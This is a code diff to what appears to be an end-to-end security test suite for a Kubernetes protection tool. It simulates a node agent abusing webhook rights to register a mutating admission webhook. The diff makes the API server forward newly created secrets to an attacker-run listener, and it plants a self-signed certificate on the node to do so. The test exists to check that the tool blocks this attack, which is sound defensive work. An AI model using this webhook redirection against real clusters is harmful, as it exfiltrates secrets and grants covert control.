@@ -5,7 +5,11 @@ package attacks_test
 
 import (
 	"context"
+	"encoding/base64"
 	"fmt"
+	"net"
+	"slices"
+	"time"
 
 	. "github.com/onsi/ginkgo/v2"
 	. "github.com/onsi/gomega"
@@ -13,6 +17,7 @@ import (
 	corev1 "k8s.io/api/core/v1"
 	rbacv1 "k8s.io/api/rbac/v1"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/client-go/util/cert"
 	"k8s.io/utils/ptr"
 
 	"github.com/bulkhead-k8s/bulkhead/e2e/fixtures"
@@ -27,10 +32,6 @@ var (
 	}
 )
 
-// collector is where the attacker listens. No connection succeeds there, so the API server reports
-// the address in its error.
-const collector = "https://127.0.0.1:9/collect"
-
 var _ = tell(Story{
 	ID: "T13", Title: "A node agent makes itself an admission webhook: the shadow administrator",
 	Source: "Unit 42, GKE Autopilot vulnerabilities (2022); rbac-police control_webhooks",
@@ -40,17 +41,17 @@ var _ = tell(Story{
 		"has no such right.",
 	Attempts: []Attempt{
 		{
-			Name: "editing a webhook that exists", Effect: "the API server sends new config maps to the attacker's address",
+			Name: "editing a webhook that exists", Effect: "the API server sends a new secret to the attacker",
 			By: daemon, Rights: mayEditWebhooks, Rule: "NS-SCOPE-1", Text: "[NA-DEFAULT]",
 			Prepare: func(ctx context.Context, r *Run) {
-				r.Namespace(ctx)
+				listens(ctx, r)
 				existing := webhook(ctx, r, "https://127.0.0.1:9/inject", "pods/ephemeralcontainers")
 				r.Put(ctx, existing)
 				r.Names["webhook"] = existing.Name
 				ownEvent(ctx, r)
 			},
 			Attack: func(ctx context.Context, r *Run, who *Identity) Answer {
-				edited := webhook(ctx, r, collector, "configmaps")
+				edited := webhook(ctx, r, r.Names["collector"], "secrets")
 				return r.Send(ctx, who, Patch(mutatingWebhooks).Named(r.Names["webhook"]).
 					With(fields{"webhooks": edited.Webhooks}).Stored())
 			},
@@ -59,14 +60,14 @@ var _ = tell(Story{
 			Twin:   sends(func(r *Run) Request { return Create(api.Events).In(stage.Namespace).With(eventAbout(r)) }),
 		},
 		{
-			Name: "creating a webhook", Effect: "the API server sends new config maps to the attacker's address",
+			Name: "creating a webhook", Effect: "the API server sends a new secret to the attacker",
 			By: daemon, Rights: mayEditWebhooks, Rule: "NS-SCOPE-1", Text: "[NA-DEFAULT]",
 			Prepare: func(ctx context.Context, r *Run) {
-				r.Namespace(ctx)
+				listens(ctx, r)
 				ownEvent(ctx, r)
 			},
 			Attack: func(ctx context.Context, r *Run, who *Identity) Answer {
-				created := webhook(ctx, r, collector, "configmaps")
+				created := webhook(ctx, r, r.Names["collector"], "secrets")
 				DeferCleanup(func(ctx context.Context) error {
 					err := r.Objects.Delete(ctx, created)
 					return ignoreNotFound(err)
@@ -85,7 +86,8 @@ func webhook(ctx context.Context, r *Run, url, resource string) *admissionregist
 	return &admissionregistrationv1.MutatingWebhookConfiguration{
 		ObjectMeta: metav1.ObjectMeta{Name: r.NewName("e2e-shadow")},
 		Webhooks: []admissionregistrationv1.MutatingWebhook{{
-			Name: "inject.example.com", ClientConfig: admissionregistrationv1.WebhookClientConfig{URL: &url},
+			Name:         "inject.example.com",
+			ClientConfig: admissionregistrationv1.WebhookClientConfig{URL: &url, CABundle: []byte(r.Names["ca"])},
 			Rules: []admissionregistrationv1.RuleWithOperations{{
 				Operations: []admissionregistrationv1.OperationType{admissionregistrationv1.Create},
 				Rule: admissionregistrationv1.Rule{APIGroups: []string{""}, APIVersions: []string{"v1"},
@@ -99,16 +101,49 @@ func webhook(ctx context.Context, r *Run, url, resource string) *admissionregist
 	}
 }
 
-// collects expects that the API server calls the attacker's address for a new config map.
+// listens starts the attacker's server on the worker, with a certificate that the attacker made: the
+// webhook names its CA. With protection, or without access to hosts, no server is at the address.
+func listens(ctx context.Context, r *Run) {
+	GinkgoHelper()
+	r.Namespace(ctx)
+	r.Names["collector"] = "https://127.0.0.1:9/collect"
+	if r.Protected || suite.Host.Missing() != "" {
+		return
+	}
+	beside := must(suite.KubeletPort(ctx, r.Attacker()))
+	host, _, err := net.SplitHostPort(beside.Address)
+	Expect(err).NotTo(HaveOccurred())
+	certificate, key, err := cert.GenerateSelfSignedCertKey(host, []net.IP{net.ParseIP(host)}, nil)
+	Expect(err).NotTo(HaveOccurred())
+	file, port := "/var/lib/kubelet/pki/"+r.NewName("e2e-collector")+".pem", fmt.Sprint(hostPort())
+	DeferCleanup(func(ctx context.Context) error {
+		_, err := suite.Host.Run(ctx, r.Attacker(), "rm -f "+file)
+		return err
+	})
+	Expect(suite.Host.Put(ctx, r.Attacker(), file, slices.Concat(certificate, key))).To(Succeed())
+	pod := running(ctx, r.RunProgram(ctx, r.Attacker(), "../standin", "-listen=0.0.0.0:"+port, "-serving="+file))
+	r.Names["collector"] = "https://" + net.JoinHostPort(host, port) + "/collect"
+	r.Names["ca"], r.Names["listener"] = string(certificate), pod.Name
+}
+
+// collects expects that a new secret arrives at the attacker's server. Without a server, the API server
+// reports the address in its error.
 func collects(ctx context.Context, r *Run, _ Answer) {
 	GinkgoHelper()
-	namespace := r.Namespace(ctx)
-	Eventually(ctx, func() string {
-		_, err := r.Client.CoreV1().ConfigMaps(namespace).Create(ctx, fixtures.ConfigMap(namespace, r.NewName("any")),
+	namespace, arrives := r.Namespace(ctx), base64.StdEncoding.EncodeToString([]byte(word))
+	if r.Names["listener"] == "" {
+		arrives = r.Names["collector"]
+	}
+	Eventually(ctx, func() (string, error) {
+		_, err := r.Client.CoreV1().Secrets(namespace).Create(ctx, fixtures.Secret(namespace, r.NewName("any")),
 			metav1.CreateOptions{})
-		return fmt.Sprint(err)
-	}).WithTimeout(Soon).Should(And(ContainSubstring("failed calling webhook"), ContainSubstring(collector)))
-	r.Say("The API server sends each new config map of the namespace to %s.", collector)
+		if r.Names["listener"] == "" {
+			return fmt.Sprint(err), nil
+		}
+		log, err := r.Client.CoreV1().Pods(namespace).GetLogs(r.Names["listener"], &corev1.PodLogOptions{}).DoRaw(ctx)
+		return string(log), err
+	}).WithTimeout(Soon).WithPolling(time.Second).Should(ContainSubstring(arrives))
+	r.Say("The API server has sent a new secret of the namespace to %s.", r.Names["collector"])
 }
 
 // ownEvent reads the attacker's pod, which the twin writes an event about.
